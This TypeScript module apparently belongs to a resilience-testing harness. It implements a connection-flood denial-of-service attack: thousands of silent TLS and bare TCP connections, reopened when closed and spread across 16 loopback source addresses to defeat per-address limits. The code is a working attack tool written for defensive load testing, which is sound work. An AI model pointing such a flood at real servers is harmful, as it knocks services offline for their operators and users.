/**
 * Attack 6, connection flood: thousands of connections opened and held — half complete the TLS
 * handshake with a fresh client identity each and then say nothing (no HTTP/2 preface), half are bare
 * TCP connections that never start TLS. Connections the victim closes are opened again. They come
 * from `SOURCE_ADDRESSES` loopback addresses (a small botnet), so per-address limits alone cannot stop
 * the flood and the victim's total limits are exercised too.
 */
import { connect as tcpConnect, type Socket } from "node:net"
import { loops, scaled, type Attack } from "../attack.js"
import { attackerTlsSocket, splitAddress } from "../h2.js"
import { freshIdentity, type AttackerIdentity } from "../identity.js"

const TLS_CONNECTIONS = 2_000
const TCP_CONNECTIONS = 2_000
/** Connection attempts in flight at once. */
const OPENING_CONCURRENCY = 128
/** Identities the TLS connections take turns with (a certificate costs a signature to make). */
const IDENTITIES = 64
const CONNECT_TIMEOUT_MS = 10_000
/** Source addresses 127.0.2.1–16, none of them the honest client's 127.0.0.1. */
const SOURCE_ADDRESSES = Array.from({ length: 16 }, (_, i) => `127.0.2.${i + 1}`)

/** Thousands of TLS and bare TCP connections, opened and held. */
export const connectionFlood: Attack = async (context) => {
  const { host, port } = splitAddress(context.plan.victim.address)
  const identities = Array.from({ length: scaled(context.plan, IDENTITIES) }, freshIdentity)
  const held = new Set<Socket>()
  const wantedTls = scaled(context.plan, TLS_CONNECTIONS)
  const wantedTcp = scaled(context.plan, TCP_CONNECTIONS)
  let openTls = 0
  let openTcp = 0
  let opened = 0

  /** Opens one connection; resolves once it is established (and held) or failed. */
  const open = (tls: boolean, identity: AttackerIdentity, localAddress: string): Promise<void> =>
    new Promise((resolve) => {
      const socket = tls ? attackerTlsSocket(context.plan.victim.address, identity, localAddress) : tcpConnect({ host, port, localAddress })
      let established = false
      const timer = setTimeout(() => socket.destroy(), CONNECT_TIMEOUT_MS)
      socket.on("error", () => {})
      socket.once(tls ? "secureConnect" : "connect", () => {
        clearTimeout(timer)
        established = true
        held.add(socket)
        if (tls) openTls++
        else openTcp++
        opened++
        context.counters.set("held", held.size)
        context.counters.set("opened", opened)
        resolve()
      })
      socket.once("close", () => {
        clearTimeout(timer)
        if (established) {
          held.delete(socket)
          if (tls) openTls--
          else openTcp--
          context.counters.add("closedByVictim")
        } else {
          context.counters.add("failed")
          resolve()
        }
      })
      socket.on("data", () => {}) // the server's settings frame: read and ignored
    })

  let turn = 0
  context.ready()
  await loops(context, OPENING_CONCURRENCY, async () => {
    const tls = openTls < wantedTls && (openTcp >= wantedTcp || turn++ % 2 === 0)
    if (!tls && openTcp >= wantedTcp) {
      await new Promise((resolve) => setTimeout(resolve, 100)) // all held: wait for the victim to close some
      return
    }
    await open(tls, identities[turn % identities.length]!, SOURCE_ADDRESSES[turn % SOURCE_ADDRESSES.length]!)
  })
  context.counters.set("heldAtEnd", held.size)
  for (const socket of held) socket.destroy()
}
